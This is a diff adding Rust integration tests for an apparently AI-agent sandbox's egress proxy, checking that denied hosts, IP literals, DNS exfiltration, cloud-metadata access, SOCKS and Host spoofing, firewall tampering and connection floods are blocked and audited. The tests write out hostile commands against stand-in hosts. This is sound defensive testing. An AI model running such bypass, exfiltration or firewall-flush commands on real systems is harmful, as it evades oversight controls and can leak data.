@@ -297,6 +297,49 @@ impl Net {
         out
     }
 
+    /// `hands tool bash` of `command` in a session of the test environment:
+    /// the result as the model sees it (JSON on stdout).
+    pub(crate) fn bash_tool(&self, command: &str) -> Output {
+        let ws = tempfile::tempdir().unwrap();
+        let input = serde_json::json!({ "command": command }).to_string();
+        nsenter(self.worker)
+            .arg(hands_bin())
+            .arg("--policy-dir")
+            .arg(self.policies())
+            .args([
+                "tool",
+                "--env",
+                "egtest",
+                "--allow-root-workspace",
+                "--workspace",
+            ])
+            .arg(ws.path())
+            .args(["bash", &input])
+            .output()
+            .unwrap()
+    }
+
+    /// `hands exec` with its audit records in `log`.
+    pub(crate) fn exec_audited(&self, script: &str, log: &Path) -> Output {
+        let ws = tempfile::tempdir().unwrap();
+        nsenter(self.worker)
+            .env("HANDS_AUDIT_LOG", log)
+            .arg(hands_bin())
+            .arg("--policy-dir")
+            .arg(self.policies())
+            .args([
+                "exec",
+                "--env",
+                "egtest",
+                "--allow-root-workspace",
+                "--workspace",
+            ])
+            .arg(ws.path())
+            .args(["--", "/bin/sh", "-c", script])
+            .output()
+            .unwrap()
+    }
+
     /// The lines the bait listeners logged.
     pub(crate) fn bait(&self) -> String {
         std::fs::read_to_string(self.dir.path().join("bait.log")).unwrap_or_default()
@@ -394,4 +437,293 @@ fn curl_through_the_proxy_reaches_an_allowed_host() {
         t.contains("hello from 198.51.100.10 allowed.test /tls"),
         "{t}"
     );
+}
+
+/// The output of a script whose every step must pass.
+fn ok(out: &Output) -> String {
+    let t = text(out);
+    assert!(out.status.success(), "{t}");
+    t
+}
+
+#[test]
+fn a_client_that_ignores_the_proxy_variables_is_captured_and_policed() {
+    crate::require_sandbox!();
+    let net = Net::get();
+    // curl --noproxy: the barrier sends the connection to the transparent
+    // listener, which names it by its Host or its TLS server name.
+    let t = ok(&net.exec(&format!(
+        "{CURL} --noproxy '*' http://allowed.test/transparent && \
+         {CURL} --noproxy '*' https://allowed.test/transparent-tls"
+    )));
+    assert!(
+        t.contains("hello from 198.51.100.10 allowed.test /transparent\n"),
+        "{t}"
+    );
+    assert!(t.contains("allowed.test /transparent-tls"), "{t}");
+    // A raw socket client, no proxy support at all.
+    let t = ok(&net.exec(
+        "python3 -c \"import socket; s = socket.create_connection(('allowed.test', 80), 10); \
+         s.sendall(b'GET /raw HTTP/1.0\\r\\nHost: allowed.test\\r\\n\\r\\n'); \
+         print(s.makefile('rb').read().decode())\"",
+    ));
+    assert!(t.contains("allowed.test /raw"), "{t}");
+}
+
+#[test]
+fn python_urllib_and_git_and_pip_work_through_the_proxy() {
+    crate::require_sandbox!();
+    let net = Net::get();
+    let t = ok(&net.exec(
+        "python3 -c \"import ssl, urllib.request; \
+         c = ssl.create_default_context(cafile='/workspace/ca.pem'); \
+         print(urllib.request.urlopen('https://allowed.test/urllib', context=c, timeout=20).read().decode())\"",
+    ));
+    assert!(t.contains("allowed.test /urllib"), "{t}");
+    let t = ok(&net.exec(
+        "GIT_SSL_CAINFO=/workspace/ca.pem git clone -q https://allowed.test/files/repo.git /tmp/repo && cat /tmp/repo/README",
+    ));
+    assert!(t.contains("cloned through hands egress"), "{t}");
+    let t = ok(&net.exec(
+        "python3 -m pip install -q --no-cache-dir --disable-pip-version-check --cert /workspace/ca.pem \
+         --index-url https://allowed.test/files/simple/ --target /tmp/pkgs handsdemo && \
+         PYTHONPATH=/tmp/pkgs python3 -c 'import handsdemo; print(handsdemo.GREETING)'",
+    ));
+    assert!(t.contains("installed through hands egress"), "{t}");
+}
+
+#[test]
+fn a_denied_host_gets_a_403_that_names_it_and_exec_says_so() {
+    crate::require_sandbox!();
+    let net = Net::get();
+    let out = net.exec(&format!("{CURL} -i http://denied.test/secret"));
+    let t = text(&out);
+    assert!(t.contains("HTTP/1.1 403 Forbidden"), "{t}");
+    assert!(
+        t.contains("X-Hands-Egress: denied; host=denied.test; port=80"),
+        "{t}"
+    );
+    assert!(
+        t.contains("denied.test:80 denied in environment egtest"),
+        "{t}"
+    );
+    assert!(
+        t.contains("hands: egress denied in environment egtest: denied.test:80"),
+        "{t}"
+    );
+}
+
+#[test]
+fn the_bash_result_ends_with_a_note_naming_each_denied_destination() {
+    crate::require_sandbox!();
+    let net = Net::get();
+    let out = net.bash_tool(&format!(
+        "{CURL} -o /dev/null http://denied.test/; {CURL} -o /dev/null http://allowed.test/; \
+         {CURL} -o /dev/null http://198.51.100.11/; true"
+    ));
+    let t = text(&out);
+    assert!(
+        t.contains("[egress] denied by environment egtest: denied.test:80"),
+        "{t}"
+    );
+    assert!(t.contains("198.51.100.11:80"), "{t}");
+    assert!(!t.contains("allowed.test:80 ("), "{t}");
+}
+
+#[test]
+fn attack_an_ip_literal_is_refused_through_the_proxy_and_around_it() {
+    crate::require_sandbox!();
+    let net = Net::get();
+    let t = text(&net.exec(&format!("{CURL} -i http://198.51.100.11/")));
+    assert!(t.contains("403 Forbidden"), "{t}");
+    let out = net.exec(&format!("{CURL} --noproxy '*' http://198.51.100.11/"));
+    let t = text(&out);
+    assert!(!out.status.success() && !t.contains("hello from"), "{t}");
+}
+
+#[test]
+fn attack_dns_exfiltration_never_reaches_a_resolver() {
+    crate::require_sandbox!();
+    let net = Net::get();
+    let out = net.exec(
+        "getent hosts secret-5f3a.exfil.test; dig +tries=1 +time=3 secret-9c1e.exfil.test; \
+         getent hosts allowed.test",
+    );
+    let t = text(&out);
+    assert!(t.contains("status: NXDOMAIN"), "{t}");
+    assert!(
+        t.contains("198.51.100.10"),
+        "an allowed name is answered: {t}"
+    );
+    let log = net.dns_log();
+    assert!(
+        !log.contains("secret-5f3a") && !log.contains("secret-9c1e"),
+        "{log}"
+    );
+}
+
+#[test]
+fn attack_raw_dns_to_another_server_and_other_udp_are_dropped() {
+    crate::require_sandbox!();
+    let net = Net::get();
+    let out = net.exec(
+        "dig +tries=1 +time=2 @198.51.100.53 rawdns-7d2b.allowed.test; \
+         python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); \
+         s.sendto(b'x', ('198.51.100.10', 9999))\"",
+    );
+    let t = text(&out);
+    assert!(!t.contains("ANSWER SECTION"), "{t}");
+    assert!(
+        t.contains("PermissionError") || t.contains("Operation not permitted"),
+        "{t}"
+    );
+    assert!(!net.dns_log().contains("rawdns-7d2b"), "{}", net.dns_log());
+}
+
+#[test]
+fn attack_a_name_that_resolves_to_loopback_or_the_metadata_address_is_refused() {
+    crate::require_sandbox!();
+    let net = Net::get();
+    let t = text(&net.exec(&format!(
+        "{CURL} -i http://rebind.test/; {CURL} -i http://metadata.test/latest/; \
+         {CURL} -i http://169.254.169.254/latest/; {CURL} --noproxy '*' http://169.254.169.254/"
+    )));
+    assert_eq!(t.matches("403 Forbidden").count(), 3, "{t}");
+    assert!(
+        t.contains("rebind.test:80 denied in environment egtest: resolves to 127.0.0.1"),
+        "{t}"
+    );
+    assert!(t.contains("a metadata address"), "{t}");
+    assert!(!net.bait().contains("169.254.169.254"), "{}", net.bait());
+}
+
+#[test]
+fn attack_connect_to_an_allowed_host_s_other_port_is_refused() {
+    crate::require_sandbox!();
+    let net = Net::get();
+    let t = ok(&net.exec(&format!("{CURL} https://tls.test/")));
+    assert!(t.contains("tls.test /"), "{t}");
+    let t = text(&net.exec(&format!("{CURL} -v https://tls.test:8443/ 2>&1")));
+    assert!(t.contains("403"), "{t}");
+    assert!(!t.contains("hello from"), "{t}");
+}
+
+#[test]
+fn attack_socks_to_a_denied_host_is_refused() {
+    crate::require_sandbox!();
+    let net = Net::get();
+    let t = ok(&net.exec(&format!(
+        "{CURL} --socks5-hostname 127.0.0.1:1080 http://allowed.test/socks"
+    )));
+    assert!(t.contains("allowed.test /socks"), "{t}");
+    let out = net.exec(&format!(
+        "{CURL} --socks5-hostname 127.0.0.1:1080 http://denied.test/"
+    ));
+    let t = text(&out);
+    assert!(!out.status.success() && !t.contains("hello from"), "{t}");
+}
+
+#[test]
+fn attack_a_host_or_server_name_that_disagrees_with_the_target_is_refused() {
+    crate::require_sandbox!();
+    let net = Net::get();
+    // Through the proxy: a Host of another name than the URI.
+    let t = text(&net.exec(&format!(
+        "{CURL} -i -H 'Host: allowed.test' http://unlisted.test/"
+    )));
+    assert!(t.contains("403 Forbidden"), "{t}");
+    // Around it: an allowed name's Host sent to the bait's address.
+    let out = net.exec(&format!(
+        "{CURL} --noproxy '*' --resolve allowed.test:80:198.51.100.66 http://allowed.test/"
+    ));
+    assert!(!out.status.success(), "{}", text(&out));
+    assert!(!net.bait().contains("198.51.100.66"), "{}", net.bait());
+}
+
+#[test]
+fn attack_the_sandbox_cannot_change_its_barrier() {
+    crate::require_sandbox!();
+    let net = Net::get();
+    let t = text(&net.exec(
+        "nft flush ruleset; echo nft=$?; ip route del default; echo ip=$?; \
+         ip link set lo down; echo link=$?",
+    ));
+    for refused in ["nft=0", "ip=0", "link=0"] {
+        assert!(!t.contains(refused), "{t}");
+    }
+    assert_eq!(t.matches("Operation not permitted").count(), 3, "{t}");
+}
+
+#[test]
+fn the_proxy_serves_on_after_garbage_silence_and_a_flood_of_connections() {
+    crate::require_sandbox!();
+    let net = Net::get();
+    // One session sends garbage to every listener, leaves connections
+    // silent and opens more than its bound of connections, and holds them
+    // while another session uses its own proxy.
+    let flood = std::thread::spawn(move || {
+        net.exec(
+            "python3 -c \"
+import socket, time
+held = []
+for port in (3128, 1080, 15001):
+    s = socket.create_connection(('127.0.0.1', port), 5)
+    s.sendall(b'\\x00\\xff garbage \\r\\n\\r\\n' * 100)
+    held.append(s)
+    held.append(socket.create_connection(('127.0.0.1', port), 5))
+for _ in range(300):
+    try:
+        held.append(socket.create_connection(('127.0.0.1', 3128), 5))
+    except OSError:
+        pass
+time.sleep(4)
+for s in held:
+    s.close()
+\" && sleep 1 && curl -sS --max-time 20 http://allowed.test/after-flood",
+        )
+    });
+    std::thread::sleep(Duration::from_secs(2));
+    let t = ok(&net.exec(&format!("{CURL} http://allowed.test/meanwhile")));
+    assert!(t.contains("allowed.test /meanwhile"), "{t}");
+    // The flooding session's own proxy serves again once it lets go.
+    let t = ok(&flood.join().unwrap());
+    assert!(t.contains("allowed.test /after-flood"), "{t}");
+}
+
+#[test]
+fn every_decision_is_an_audit_record() {
+    crate::require_sandbox!();
+    let net = Net::get();
+    let dir = tempfile::tempdir().unwrap();
+    let log = dir.path().join("audit.jsonl");
+    ok(&net.exec_audited(
+        &format!("{CURL} -o /dev/null http://allowed.test/; {CURL} -o /dev/null http://denied.test/; true"),
+        &log,
+    ));
+    let records: Vec<serde_json::Value> = std::fs::read_to_string(&log)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .filter(|r: &serde_json::Value| r["kind"] == "egress")
+        .collect();
+    let allowed = records
+        .iter()
+        .find(|r| r["host"] == "allowed.test" && r["decision"] == "allowed")
+        .unwrap_or_else(|| panic!("{records:?}"));
+    assert_eq!(allowed["port"], 80);
+    assert_eq!(allowed["address"], "198.51.100.10");
+    assert!(allowed["bytes_down"].as_u64().unwrap() > 0, "{allowed}");
+    assert!(
+        allowed["call_id"].as_str().unwrap().starts_with("exec-"),
+        "{allowed}"
+    );
+    let denied = records
+        .iter()
+        .find(|r| r["host"] == "denied.test" && r["decision"] == "denied")
+        .unwrap_or_else(|| panic!("{records:?}"));
+    assert_eq!(denied["rule"], "denied.test", "{denied}");
+    assert!(matches!(
+        hands::audit::verify(std::slice::from_ref(&log)).unwrap(),
+        hands::audit::Verdict::Holds { .. }
+    ));
 }
